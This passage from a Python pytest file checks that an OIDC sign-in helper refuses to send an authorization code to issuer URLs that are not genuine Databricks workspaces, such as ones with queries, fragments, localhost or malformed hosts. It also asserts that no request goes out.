        "https://dev.cloud.databricks.com/oidc?x=1",
        "https://dev.cloud.databricks.com/oidc#x",
        "//dev.cloud.databricks.com/oidc",
        "https://[::1/oidc",
        "http://127.0.0.1:1/oidc",
    ],
)
def test_no_code_goes_to_an_issuer_that_is_not_a_workspace_of_databricks(machine: Machine, issuer: str) -> None:
    far = FarSide({"/nowhere": (200, {})})
    with pytest.raises(Refused, match="the code was not used"):
        find_out(machine, far, issuer)
    assert far.asked == []
